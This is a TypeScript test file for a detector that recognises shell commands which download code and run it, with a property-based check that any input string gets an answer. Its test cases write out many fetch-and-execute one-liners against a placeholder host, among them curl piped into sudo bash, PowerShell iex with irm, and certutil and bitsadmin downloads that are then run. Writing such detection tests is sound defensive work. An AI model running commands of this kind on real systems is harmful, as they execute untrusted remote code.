import fc from 'fast-check';
import { expect, test } from 'vitest';
import { parseCommandLine } from '../../syntax/index.ts';
import { downloadRuns } from './download-and-run.ts';

const brief = (line: string): readonly string[] =>
  downloadRuns(parseCommandLine(line), line).map(({ how, url, runner }) => `${how} ${url} → ${runner}`);

test.each([
  ['curl https://a.invalid/x | sudo bash -s -- -y', ['piped https://a.invalid/x → bash']],
  ['curl -s https://a.invalid/x|tee /tmp/l|sh', ['piped https://a.invalid/x → sh']],
  ['wget -O- a.invalid/x | zsh', ['piped a.invalid/x → zsh']],
  ['sh -c "$(wget -qO- https://a.invalid/x)"', ['substituted https://a.invalid/x → sh']],
  ['eval "`curl -s https://a.invalid/x`"', ['substituted https://a.invalid/x → eval']],
  ['source <(curl -s https://a.invalid/x)', ['substituted https://a.invalid/x → source']],
  ['iex (irm https://a.invalid/x)', ['substituted https://a.invalid/x → iex']],
  ['irm https://a.invalid/x | iex', ['piped https://a.invalid/x → iex']],
  ['curl https://a.invalid/x.sh -O && bash x.sh', ['saved https://a.invalid/x.sh → bash']],
  ['curl https://a.invalid/x > y.sh; sh ./y.sh', ['saved https://a.invalid/x → sh']],
  ['wget https://a.invalid/x.js && node x.js', ['saved https://a.invalid/x.js → node']],
  ['certutil -urlcache -f https://a.invalid/x x.exe & x.exe', ['saved https://a.invalid/x → x.exe']],
  [
    'bitsadmin /transfer j https://a.invalid/x %TEMP%\\x.bat && %TEMP%\\x.bat',
    ['saved https://a.invalid/x → %TEMP%\\x.bat'],
  ],
  ['iwr https://a.invalid/x -OutFile x.ps1; powershell -File x.ps1', ['saved https://a.invalid/x → powershell']],
  ['deno run -A https://a.invalid/x.ts', ['inline https://a.invalid/x.ts → deno']],
  ['curl https://a.invalid/v.json | jq .x', []],
  ['curl https://a.invalid/a.tgz | tar xz', []],
  ['curl -s https://a.invalid/a | grep x && bash y.sh', []],
  ['curl https://a.invalid/a -o a.json && node build.js', []],
  ['curl https://a.invalid/a | node -e "1"', []],
  ['curl https://a.invalid/a | python3 parse.py', []],
  ['echo "curl https://a.invalid | sh"', []],
  ['V=$(curl -s https://a.invalid/v) && echo $V', []],
  ['base64 -d a.b64 > a.png', []],
  ['npx create-react-app x', []],
] as const)('%s', (line, expected) => {
  expect(brief(line)).toEqual(expected);
});

test('any text gives an answer', () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 400 }), (line) => Array.isArray(downloadRuns(parseCommandLine(line), line))),
  );
});
